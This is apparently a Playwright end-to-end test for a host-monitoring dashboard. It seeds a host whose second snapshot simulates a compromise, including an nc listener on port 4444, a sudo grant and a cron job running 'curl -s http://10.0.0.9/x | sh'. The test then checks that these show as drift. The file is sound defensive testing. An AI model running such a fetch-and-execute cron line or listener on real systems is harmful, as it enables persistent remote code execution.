/**
 * What runs on a host and what changed on it: processes at a chart point beside the changes
 * before it, a tab per inventory section with its diff, a port-opened drift marker. The host is
 * seeded here through the real API (its own, so the shared fleet's counts stay as they are).
 */
import path from "node:path";
import { SCREENSHOT_DIR, expect, screenshot, signIn, test } from "./fixtures";
import { state } from "./state";

const MIN = 60_000;
type Seeded = { hostId: string; hostname: string; opened: string };
let seeded: Seeded | undefined;

async function call(method: string, url: string, body: unknown, token?: string) {
  const res = await fetch(state().baseUrl + url, {
    method,
    headers: { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) },
    body: JSON.stringify(body),
  });
  const parsed = await res.json().catch(() => undefined);
  if (res.status >= 300) throw new Error(`${method} ${url}: ${res.status} ${JSON.stringify(parsed)}`);
  return parsed;
}

const proc = (pid: number, name: string, cpuPct: number, rssBytes: number, cmdline: string) => ({ pid, name, user: "root", cpuPct, rssBytes, state: cpuPct > 50 ? "R" : "S", cmdline });

/** An hour of samples every minute; from 35 to 25 minutes ago `stress` takes the CPU. */
function samples(now: number) {
  const out = [];
  for (let ago = 60; ago >= 1; ago--) {
    const spike = ago <= 35 && ago >= 25;
    const processes = [proc(812, "postgres", 4 + (ago % 3), 210_000_000, "postgres: checkpointer"), proc(977, "nginx", 1.5, 40_000_000, "nginx: worker process")];
    if (spike) processes.unshift(proc(4242, "stress", 97, 8_000_000, "stress --cpu 1 --timeout 600"));
    out.push({ ts: new Date(now - ago * MIN).toISOString(), cpuPct: spike ? 98 : 12 + (ago % 5), memPct: 40, diskPct: 55, uptimeS: 86_400 + (60 - ago) * 60, processes });
  }
  return out;
}

const inventory = (opened: boolean) => ({
  packages: [{ name: "openssh-server", version: "1:9.2p1-2", arch: "amd64", manager: "dpkg" }],
  env: { PATH: "/usr/bin:/bin" },
  ports: [{ proto: "tcp", address: "0.0.0.0", port: 22, process: "sshd" }, { proto: "tcp6", address: "::", port: 80, process: "nginx" }, ...(opened ? [{ proto: "tcp", address: "0.0.0.0", port: 4444, process: "nc" }] : [])],
  users: [
    { name: "root", uid: 0, gid: 0, shell: "/bin/bash", home: "/root" },
    { name: "bob", uid: 1000, gid: 1000, shell: opened ? "/bin/zsh" : "/bin/bash", home: "/home/bob" },
  ],
  groups: [{ name: "sudo", gid: 27, members: opened ? ["bob"] : [] }],
  services: [
    { unit: "nginx.service", enabled: "enabled", active: opened ? "failed" : "active", sub: opened ? "failed" : "running" },
    { unit: "ssh.service", enabled: "enabled", active: "active", sub: "running" },
  ],
  jobs: [{ source: "/etc/crontab", schedule: "17 * * * *", command: "cd / && run-parts --report /etc/cron.hourly" }, ...(opened ? [{ source: "/etc/cron.d/sync", schedule: "*/5 * * * *", command: "curl -s http://10.0.0.9/x | sh" }] : [])],
  files: [
    { path: "/etc/ssh/sshd_config", sha256: (opened ? "b" : "a").repeat(64), size: 3223, mode: "0644", owner: "root", mtime: "2026-12-01T10:00:00Z" },
    { path: "/etc/sudoers", size: 1714, mode: "0440", owner: "root", error: "permission denied" },
  ],
  containers: [{ id: "c0ffee", name: "web", image: opened ? "nginx:1.27" : "nginx:1.25", state: "running", health: "healthy" }],
  hardware: {
    system: { vendor: "Dell Inc.", product: "PowerEdge R650" },
    cpu: { model: "Intel(R) Xeon(R) Gold 6330", sockets: 2, cores: 56, threads: 112 },
    memory: [{ slot: "A1", sizeBytes: 34_359_738_368, type: "DDR4" }],
    // The disk was replaced between the two snapshots: another serial under the same name.
    disks: [{ name: "sda", serial: opened ? "WD-2" : "WD-1", model: "WDC WDS100T", sizeBytes: 1_000_204_886_016, type: "ssd" }],
    nics: [{ name: "eno1", mac: "b0:7b:25:00:00:01", speedMbps: 10_000 }],
    gpus: [],
  },
  kernelCmdline: "BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet",
  sysctl: { "net.ipv4.ip_forward": opened ? "1" : "0", "kernel.randomize_va_space": "2" },
});

test.beforeAll(async () => {
  const now = Date.now();
  const admin = await call("POST", "/api/auth/login", state().users.admin);
  const enrollment = await call("POST", "/api/enrollment-tokens", { ttlHours: 1, maxUses: 1 }, admin.accessToken);
  // A name of its own: a worker that restarts after a failure seeds again.
  const hostname = `inv-${now.toString(36)}`;
  const host = await call("POST", "/api/agents/enroll", { token: enrollment.token, hostname, machineId: `machine-${hostname}` });
  await call("POST", "/api/telemetry", { host: { hostname, os: "Debian GNU/Linux 12 (bookworm)", kernel: "6.1.0-27-amd64", intervalS: 60 }, samples: samples(now) }, host.agentToken);
  await call("POST", "/api/snapshot", { ts: new Date(now - 55 * MIN).toISOString(), ...inventory(false) }, host.agentToken);
  const second = await call("POST", "/api/snapshot", { ts: new Date(now - 40 * MIN).toISOString(), ...inventory(true) }, host.agentToken);
  seeded = { hostId: host.hostId, hostname, opened: second.snapshotId };
});

test("clicking a chart point shows the top processes at that moment beside the changes before it", async ({ page }) => {
  await signIn(page, state().users.viewer, `/hosts/${seeded!.hostId}`);
  const panel = page.getByTestId("processes-panel");
  await expect(panel.getByRole("heading", { name: "Top processes now" })).toBeVisible();
  await expect(panel.getByTestId("processes-table").locator("tbody tr").first()).toContainText("postgres");

  // The middle of the last hour: inside the spike (35 to 25 minutes ago).
  const box = page.getByTestId("chart-box-cpu");
  await expect(box.locator("canvas")).toBeVisible();
  await box.locator("canvas").click({ position: { x: ((await box.boundingBox())!.width * 0.55), y: 60 } });
  await expect(panel.getByRole("heading", { name: /Top processes at/ })).toBeVisible();
  const rows = panel.getByTestId("processes-table").locator("tbody tr");
  await expect(rows.first()).toContainText("stress");
  await expect(rows.first()).toContainText("97.0");
  await expect(rows.first()).toContainText("stress --cpu 1 --timeout 600");
  const before = panel.getByTestId("changes-before");
  await expect(before).toContainText("+1 \u22120 ~0 ports");
  await screenshot(page, "host-processes-at-point");

  // A change listed before the moment opens its diff.
  await before.getByRole("button").first().click();
  await expect(page.getByTestId("diff-panel")).toHaveAttribute("data-snapshot-id", seeded!.opened);
  await panel.getByTestId("processes-now").click();
  await expect(panel.getByRole("heading", { name: "Top processes now" })).toBeVisible();
});

const TABS = [
  ["ports", "4444", "+ tcp 0.0.0.0:4444"],
  ["users", "bob", "~ bob: shell /bin/bash → /bin/zsh"],
  ["groups", "sudo", "~ sudo: members none → bob"],
  ["services", "nginx", "~ nginx.service: active active → failed; sub running → failed"],
  ["jobs", "curl", "+ /etc/cron.d/sync: */5 * * * * curl -s http://10.0.0.9/x | sh"],
  ["files", "sshd", "~ /etc/ssh/sshd_config: sha256"],
  ["containers", "web", "~ web: image nginx:1.25 → nginx:1.27"],
  ["hardware", "WD-2", "+ disk sda (WD-2)"],
] as const;

test("the configuration panel has a searchable tab per section, each with its diff", async ({ page }) => {
  await signIn(page, state().users.viewer, `/hosts/${seeded!.hostId}`);
  for (const [section, search, change] of TABS) {
    await page.getByTestId(`tab-${section}`).click();
    const tab = page.getByTestId(`section-${section}`);
    await expect(page.getByTestId(`${section}-table`).locator("tbody tr")).not.toHaveCount(0);
    await tab.getByRole("searchbox").fill(search);
    await expect(page.getByTestId(`${section}-table`).locator("tbody tr")).toHaveCount(1);
    await expect(page.getByTestId(`${section}-table`)).toContainText(search);
    await expect(tab.getByTestId(`section-diff-${section}`)).toContainText(change);
    await page.locator("#config").screenshot({ path: path.join(SCREENSHOT_DIR, `config-tab-${section}.png`) });
  }
  await page.getByTestId("tab-files").click();
  await page.getByTestId("section-files").getByRole("searchbox").fill("");
  await expect(page.getByTestId("files-table")).toContainText("unreadable: permission denied");
  await page.getByTestId("tab-sysctl").click();
  await expect(page.getByTestId("section-sysctl")).toContainText("BOOT_IMAGE=/vmlinuz root=/dev/sda1 ro quiet");
  await expect(page.getByTestId("sysctl-table")).toContainText("net.ipv4.ip_forward");
});

test("a port opened shows as a drift marker on the charts and opens its diff", async ({ page }) => {
  await signIn(page, state().users.viewer, `/hosts/${seeded!.hostId}`);
  const marker = page.getByTestId("chart-cpu").locator(`[data-testid="drift-marker"][data-snapshot-id="${seeded!.opened}"]`);
  await expect(marker).toHaveAttribute("aria-label", /\+1 −0 ~0 ports/);
  await marker.click();
  const diff = page.getByTestId("diff-panel");
  await expect(diff).toHaveAttribute("data-snapshot-id", seeded!.opened);
  await expect(diff.getByTestId("diff-section-ports")).toContainText("+ tcp 0.0.0.0:4444");
  await expect(diff.getByTestId("diff-section-services")).toContainText("nginx.service: active active → failed");
  await expect(diff.getByTestId("diff-section-sysctl")).toContainText("net.ipv4.ip_forward 0 → 1");
  await screenshot(page, "host-port-opened-marker");

  // The overview's drift panel names the sections the change touched.
  await page.goto("/");
  const item = page.getByTestId("fleet-drift").locator(`li[data-host="${seeded!.hostname}"]`);
  await expect(item.getByTestId("drift-sections")).toHaveText(/files.*groups.*jobs.*ports.*services.*sysctl.*users/);
  await screenshot(page, "overview-drift-sections");
});
